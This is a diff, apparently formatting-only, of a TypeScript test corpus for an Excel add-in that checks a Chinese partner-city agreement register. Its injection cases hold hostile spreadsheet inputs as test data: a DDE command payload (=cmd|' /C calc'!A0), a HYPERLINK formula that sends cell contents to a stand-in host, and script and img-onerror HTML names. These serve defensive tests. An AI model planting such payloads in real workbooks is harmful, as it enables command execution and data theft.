@@ -97,7 +97,13 @@ export const CASES: CorpusCase[] = [
   {
     id: "date-text-daiding",
     title: "签署日期 holds 待定",
-    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "待定" }), ...cleanRows(2).map((r) => ({ ...r, partner: "天津市南开区" }))])),
+    build: () =>
+      xlsx(
+        register([
+          agreement("上海市黄浦区", { signed: "待定" }),
+          ...cleanRows(2).map((r) => ({ ...r, partner: "天津市南开区" })),
+        ]),
+      ),
     expect: [
       { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "待定" },
       { status: "unknown", sheet: R, row: 4 },
@@ -165,7 +171,9 @@ export const CASES: CorpusCase[] = [
     id: "error-ref-cells",
     title: "#REF! in 人大常委会决定日期 and in 有效期",
     build: () =>
-      xlsx(register([agreement("上海市黄浦区", { npc: err("#REF!") }), agreement("天津市南开区", { term: err("#REF!") })])),
+      xlsx(
+        register([agreement("上海市黄浦区", { npc: err("#REF!") }), agreement("天津市南开区", { term: err("#REF!") })]),
+      ),
     expect: [
       { finding: "DATA-DATE", sheet: R, row: 4, column: at("npc"), quotes: "#REF!" },
       // A term that cannot be read is reported, never taken as 5 (parseTerm): TERM-LENGTH quotes it.
@@ -192,7 +200,7 @@ export const CASES: CorpusCase[] = [
         register([
           agreement("上海市黄浦区", { signed: { formula: "DATE(2023,6,18)", result: d("2023-06-18") } }),
           agreement("天津市南开区", { signed: { formula: "EDATE(D5,1)", result: d("2023-06-10") } }),
-          agreement("重庆市渝中区", { signed: { formula: "TEXT(D6+30,\"yyyy-mm-dd\")", result: "2023-06-09" } }),
+          agreement("重庆市渝中区", { signed: { formula: 'TEXT(D6+30,"yyyy-mm-dd")', result: "2023-06-09" } }),
           agreement("杭州市西湖区", { signed: { formula: "DATE(2023,6,18)" } }),
         ]),
       ),
@@ -211,7 +219,8 @@ export const CASES: CorpusCase[] = [
   {
     id: "date-before-1900",
     title: "签署日期 1899-05-01 as text (Excel cannot hold it as a date)",
-    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "1899-05-01", npc: null }), agreement("天津市南开区")])),
+    build: () =>
+      xlsx(register([agreement("上海市黄浦区", { signed: "1899-05-01", npc: null }), agreement("天津市南开区")])),
     expect: [
       { status: "expired", sheet: R, row: 4, lastDay: "1904-05-01" },
       { finding: "TERM-EXPIRED", sheet: R, row: 4 },
@@ -225,7 +234,10 @@ export const CASES: CorpusCase[] = [
     title: "签署日期 2101-03-01 (a real date cell) and 到期日期 as text in 2150",
     build: () =>
       xlsx(
-        register([agreement("上海市黄浦区", { signed: d("2101-03-01"), npc: d("2101-01-05") }), agreement("天津市南开区")]),
+        register([
+          agreement("上海市黄浦区", { signed: d("2101-03-01"), npc: d("2101-01-05") }),
+          agreement("天津市南开区"),
+        ]),
       ),
     expect: [
       { status: "active", sheet: R, row: 4, lastDay: "2106-03-01" },
@@ -264,8 +276,20 @@ export const CASES: CorpusCase[] = [
     title: "sheets whose columns match no role (a phone list, a budget)",
     build: () =>
       xlsx(
-        { name: "通讯录", rows: [["姓名", "电话", "单位"], ["张三", "010-6612 3456", "区外联办"]] },
-        { name: "经费", rows: [["项目", "金额"], ["接待", 12000]] },
+        {
+          name: "通讯录",
+          rows: [
+            ["姓名", "电话", "单位"],
+            ["张三", "010-6612 3456", "区外联办"],
+          ],
+        },
+        {
+          name: "经费",
+          rows: [
+            ["项目", "金额"],
+            ["接待", 12000],
+          ],
+        },
       ),
     expect: [{ toldNoRegister: true }, { noRole: "通讯录" }, { noRole: "经费" }],
   },
@@ -311,9 +335,16 @@ export const CASES: CorpusCase[] = [
     title: "row 5 hidden, column G (协议份数) hidden",
     build: () =>
       xlsx(
-        register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: d("2021-01-10"), npc: d("2020-12-01") }), agreement("重庆市渝中区", { copies: 3 })], {
-          extra: { hiddenRows: [5], hiddenColumns: [7] },
-        }),
+        register(
+          [
+            agreement("上海市黄浦区"),
+            agreement("天津市南开区", { signed: d("2021-01-10"), npc: d("2020-12-01") }),
+            agreement("重庆市渝中区", { copies: 3 }),
+          ],
+          {
+            extra: { hiddenRows: [5], hiddenColumns: [7] },
+          },
+        ),
       ),
     expect: [
       { agreementRows: [4, 5, 6], sheet: R },
@@ -342,7 +373,9 @@ export const CASES: CorpusCase[] = [
     id: "register-as-excel-table",
     title: "the register as an Excel table (ListObject) with filter buttons, header on row 3",
     build: () => {
-      const sheet = register([...cleanRows(2), agreement("重庆市渝中区", { signed: "待定" })], { titles: [["西城区友城名录"], []] });
+      const sheet = register([...cleanRows(2), agreement("重庆市渝中区", { signed: "待定" })], {
+        titles: [["西城区友城名录"], []],
+      });
       sheet.table = { name: "友城表", headerRow: 3, lastRow: 6 };
       return xlsx(sheet);
     },
@@ -360,7 +393,12 @@ export const CASES: CorpusCase[] = [
         register(cleanRows(2)),
         register(
           [
-            agreement("湘西土家族苗族自治州", { relation: "合作框架协议", term: 3, npc: null, signed: d("2025-01-10") }),
+            agreement("湘西土家族苗族自治州", {
+              relation: "合作框架协议",
+              term: 3,
+              npc: null,
+              signed: d("2025-01-10"),
+            }),
             agreement("和田地区", { relation: "对口帮扶支援协议", signed: d("2021-11-30") }),
           ],
           { name: "合作协议" },
@@ -402,7 +440,8 @@ export const CASES: CorpusCase[] = [
   // ----------------------------------------------------------------------- strange text
   {
     id: "names-line-breaks-fullwidth-spaces",
-    title: "partners written 上海市⏎黄浦区 (Alt+Enter) and 杭州市　西湖区 (full-width space); the log names them plainly",
+    title:
+      "partners written 上海市⏎黄浦区 (Alt+Enter) and 杭州市　西湖区 (full-width space); the log names them plainly",
     build: () =>
       xlsx(
         register([agreement("上海市\n黄浦区"), agreement("杭州市\u3000西湖区"), agreement("\u3000成都市青羊区\u3000")]),
@@ -420,7 +459,8 @@ export const CASES: CorpusCase[] = [
   {
     id: "cells-10000-characters",
     title: "a 10,000-character partner name and 10,000 characters of text in a date cell",
-    build: () => xlsx(register([agreement("长".repeat(10_000)), agreement("天津市南开区", { signed: "待".repeat(10_000) })])),
+    build: () =>
+      xlsx(register([agreement("长".repeat(10_000)), agreement("天津市南开区", { signed: "待".repeat(10_000) })])),
     expect: [
       { status: "active", sheet: R, row: 4 },
       { finding: "DATA-DATE", sheet: R, row: 5, column: at("signed") },
@@ -455,7 +495,8 @@ export const CASES: CorpusCase[] = [
   },
   {
     id: "numbers-stored-as-text",
-    title: "有效期 \"5\", 协议份数 \"4\", 我方保存份数 \"2\" stored as text; one term \"3\" as text; names that look like numbers or dates",
+    title:
+      '有效期 "5", 协议份数 "4", 我方保存份数 "2" stored as text; one term "3" as text; names that look like numbers or dates',
     build: () =>
       xlsx(
         register([
@@ -488,7 +529,12 @@ export const CASES: CorpusCase[] = [
   {
     id: "protected-register",
     title: "the register sheet protected (Review › Protect Sheet)",
-    build: () => xlsx(register([...cleanRows(2), agreement("重庆市渝中区", { signed: d("2021-12-20"), npc: d("2021-11-01") })], { extra: { protect: true } })),
+    build: () =>
+      xlsx(
+        register([...cleanRows(2), agreement("重庆市渝中区", { signed: d("2021-12-20"), npc: d("2021-11-01") })], {
+          extra: { protect: true },
+        }),
+      ),
     expect: [
       { status: "urgent", sheet: R, row: 6 },
       { finding: "TERM-URGENT", sheet: R, row: 6 },
@@ -518,7 +564,16 @@ export const CASES: CorpusCase[] = [
   {
     id: "sheet-name-spaces-parens",
     title: "the register named 友城 名录 (2026): spaces and brackets need quoting in a formula",
-    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") })], { name: "友城 名录 (2026)" })),
+    build: () =>
+      xlsx(
+        register(
+          [
+            agreement("上海市黄浦区", { signed: "待定" }),
+            agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") }),
+          ],
+          { name: "友城 名录 (2026)" },
+        ),
+      ),
     expect: [
       { finding: "DATA-DATE", sheet: "友城 名录 (2026)", row: 4, column: "E" },
       { status: "urgent", sheet: "友城 名录 (2026)", row: 5 },
@@ -528,11 +583,9 @@ export const CASES: CorpusCase[] = [
   {
     id: "sheet-name-apostrophe",
     title: "the register named O'Brien: an apostrophe, doubled when quoted",
-    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区")], { name: "O'Brien" })),
-    expect: [
-      { finding: "DATA-DATE", sheet: "O'Brien", row: 4, column: "E" },
-      { linkTarget: "'O''Brien'!E4" },
-    ],
+    build: () =>
+      xlsx(register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区")], { name: "O'Brien" })),
+    expect: [{ finding: "DATA-DATE", sheet: "O'Brien", row: 4, column: "E" }, { linkTarget: "'O''Brien'!E4" }],
   },
   {
     id: "user-sheet-named-like-addin",
@@ -570,7 +623,11 @@ export const CASES: CorpusCase[] = [
     id: "header-on-row-20",
     title: "nineteen rows of instructions, the header on row 20 (the last row searched)",
     build: () =>
-      xlsx(register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: "待定" })], { titles: instructions(19) })),
+      xlsx(
+        register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: "待定" })], {
+          titles: instructions(19),
+        }),
+      ),
     expect: [
       { role: "register", sheet: R, headerRow: 20 },
       { agreementRows: [21, 22], sheet: R },
@@ -661,7 +718,11 @@ export const CASES: CorpusCase[] = [
     title: "a 合计 row and a 制表人/审核 sign-off row under the register",
     build: async () => {
       const sheet = register(cleanRows(3));
-      sheet.rows.push([], ["合计", null, null, null, null, null, 12, 6], ["制表人：张三", null, null, null, "审核：李四", null, null, null, "制表日期：2026年11月20日"]);
+      sheet.rows.push(
+        [],
+        ["合计", null, null, null, null, null, 12, 6],
+        ["制表人：张三", null, null, null, "审核：李四", null, null, null, "制表日期：2026年11月20日"],
+      );
       return xlsx(sheet);
     },
     expect: [
@@ -694,7 +755,12 @@ export const CASES: CorpusCase[] = [
       xlsx(
         register(
           [
-            agreement({ richText: [{ text: "上海市", bold: true }, { text: "黄浦区", color: "FFFF0000" }] }),
+            agreement({
+              richText: [
+                { text: "上海市", bold: true },
+                { text: "黄浦区", color: "FFFF0000" },
+              ],
+            }),
             agreement("天津市南开区", { signed: "待定", status: "已终止" }),
             agreement("重庆市渝中区"),
           ],
@@ -705,7 +771,14 @@ export const CASES: CorpusCase[] = [
               conditional: [
                 {
                   ref: "A4:J6",
-                  rules: [{ type: "expression", priority: 1, formulae: ['$J4="已终止"'], style: { font: { color: { argb: "FF808080" } } } }],
+                  rules: [
+                    {
+                      type: "expression",
+                      priority: 1,
+                      formulae: ['$J4="已终止"'],
+                      style: { font: { color: { argb: "FF808080" } } },
+                    },
+                  ],
                 },
               ],
             },
@@ -721,7 +794,14 @@ export const CASES: CorpusCase[] = [
   {
     id: "mac-1904-date-system",
     title: "a workbook saved on a Mac in the 1904 date system",
-    build: () => xlsxWith({ date1904: true }, register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") })])),
+    build: () =>
+      xlsxWith(
+        { date1904: true },
+        register([
+          agreement("上海市黄浦区"),
+          agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") }),
+        ]),
+      ),
     expect: [
       { status: "active", sheet: R, row: 4, lastDay: "2028-06-18" },
       { status: "urgent", sheet: R, row: 5, lastDay: "2026-12-20" },
@@ -731,7 +811,7 @@ export const CASES: CorpusCase[] = [
   },
   {
     id: "formula-partner-and-formula-result-injection",
-    title: "partner names that are formulas: =\"上海市\"&\"黄浦区\", and one whose cached result is the text =1+2",
+    title: 'partner names that are formulas: ="上海市"&"黄浦区", and one whose cached result is the text =1+2',
     build: () =>
       xlsx(
         register([
@@ -747,15 +827,13 @@ export const CASES: CorpusCase[] = [
   },
 
   // ----------------------------------------------------------------------- injection
-  ...(["=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,1)"] as const).map(
-    (name): CorpusCase => ({
-      id: `injection-${{ "=": "equals", "+": "plus", "-": "minus", "@": "at" }[name[0] as "=" | "+" | "-" | "@"]}`,
-      title: `a partner named ${name}`,
-      build: () => xlsx(register([agreement(asText(name)), agreement("天津市南开区")])),
-      expect: [{ status: "active", sheet: R, row: 4 }],
-      injection: [name],
-    }),
-  ),
+  ...(["=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,1)"] as const).map((name): CorpusCase => ({
+    id: `injection-${{ "=": "equals", "+": "plus", "-": "minus", "@": "at" }[name[0] as "=" | "+" | "-" | "@"]}`,
+    title: `a partner named ${name}`,
+    build: () => xlsx(register([agreement(asText(name)), agreement("天津市南开区")])),
+    expect: [{ status: "active", sheet: R, row: 4 }],
+    injection: [name],
+  })),
   {
     id: "injection-hyperlink-dde",
     title: "partners named =HYPERLINK(…) and =cmd|' /C calc'!A0 (DDE), duplicated so that findings begin with the name",
@@ -763,7 +841,10 @@ export const CASES: CorpusCase[] = [
       xlsx(
         register([
           agreement(asText('=HYPERLINK("http://example.invalid/?q="&A1,"点我")')),
-          agreement(asText('=HYPERLINK("http://example.invalid/?q="&A1,"点我")'), { signed: d("2024-02-01"), npc: d("2024-01-02") }),
+          agreement(asText('=HYPERLINK("http://example.invalid/?q="&A1,"点我")'), {
+            signed: d("2024-02-01"),
+            npc: d("2024-01-02"),
+          }),
           agreement(asText("=cmd|' /C calc'!A0")),
         ]),
       ),
@@ -781,7 +862,8 @@ export const CASES: CorpusCase[] = [
   {
     id: "injection-html",
     title: "partners named <script>…</script> and <img onerror>",
-    build: () => xlsx(register([agreement(SCRIPT), agreement(IMG, { signed: "待定" })]), exchanges([SCRIPT, "<b>未登记</b>"])),
+    build: () =>
+      xlsx(register([agreement(SCRIPT), agreement(IMG, { signed: "待定" })]), exchanges([SCRIPT, "<b>未登记</b>"])),
     expect: [
       { status: "active", sheet: R, row: 4 },
       { finding: "DATA-DATE", sheet: R, row: 5 },
@@ -836,7 +918,12 @@ export const UNREADABLE: UnreadableCase[] = [
     reason: "corrupt",
     spawn: true,
   },
-  { id: "password-protected", title: "a workbook with an opening password", bytes: () => encryptedLookalike(), reason: "encrypted" },
+  {
+    id: "password-protected",
+    title: "a workbook with an opening password",
+    bytes: () => encryptedLookalike(),
+    reason: "encrypted",
+  },
 ];
 
 // ---------------------------------------------------------------------------------------------
@@ -844,11 +931,26 @@ export const UNREADABLE: UnreadableCase[] = [
 const PARTNERS_2 = ["杭州市西湖区", "成都市青羊区"];
 
 function rowOf(a: Record<RegisterField, CellSpec>): CellSpec[] {
-  return (["partner", "province", "relation", "npc", "signed", "term", "copies", "held", "custodian", "status"] as RegisterField[]).map((f) => a[f]);
+  return (
+    [
+      "partner",
+      "province",
+      "relation",
+      "npc",
+      "signed",
+      "term",
+      "copies",
+      "held",
+      "custodian",
+      "status",
+    ] as RegisterField[]
+  ).map((f) => a[f]);
 }
 
 function instructions(n: number): CellSpec[][] {
-  return Array.from({ length: n }, (_, i) => (i === 0 ? ["西城区国内友好城市（区）名录"] : [`填表说明第${i}条：请按实际情况填写`]));
+  return Array.from({ length: n }, (_, i) =>
+    i === 0 ? ["西城区国内友好城市（区）名录"] : [`填表说明第${i}条：请按实际情况填写`],
+  );
 }
 
 /** Date cells of the add-in's sheets hold serials Excel can show (≥ 1), in both writers' output. */
@@ -862,7 +964,8 @@ function expectNoNegativeDates(run: CaseRun): void {
       grid?.values.forEach((row, r) => {
         for (const c of dateColumns) {
           const v = row[c];
-          if (r > 0 && typeof v === "number" && v < 1) bad.push({ writer: "exceljs", sheet: own.name, row: r + 1, column: c, serial: v });
+          if (r > 0 && typeof v === "number" && v < 1)
+            bad.push({ writer: "exceljs", sheet: own.name, row: r + 1, column: c, serial: v });
         }
       });
     }
@@ -872,7 +975,8 @@ function expectNoNegativeDates(run: CaseRun): void {
     for (const sheet of after.sheets) {
       if (!sheet.tables.some((t) => t.name.startsWith("PartnerCities_"))) continue;
       for (const [key, cell] of Object.entries(sheet.cells)) {
-        if (typeof cell.value === "number" && cell.value < 1 && /[ymd]/.test(cell.numberFormat ?? "")) bad.push({ writer: "office-js", sheet: sheet.name, cell: key, serial: cell.value });
+        if (typeof cell.value === "number" && cell.value < 1 && /[ymd]/.test(cell.numberFormat ?? ""))
+          bad.push({ writer: "office-js", sheet: sheet.name, cell: key, serial: cell.value });
       }
     }
   }
@@ -885,7 +989,10 @@ function expectNoFormulasInOwnSheets(run: CaseRun): void {
     const { after, plan } = run.excelJs.value;
     for (const own of plan.sheets) {
       for (const [address, cell] of Object.entries(after.cells[own.name] ?? {})) {
-        expect({ address, formula: (cell.value as { formula?: string } | null)?.formula ?? null }).toEqual({ address, formula: null });
+        expect({ address, formula: (cell.value as { formula?: string } | null)?.formula ?? null }).toEqual({
+          address,
+          formula: null,
+        });
       }
     }
   }
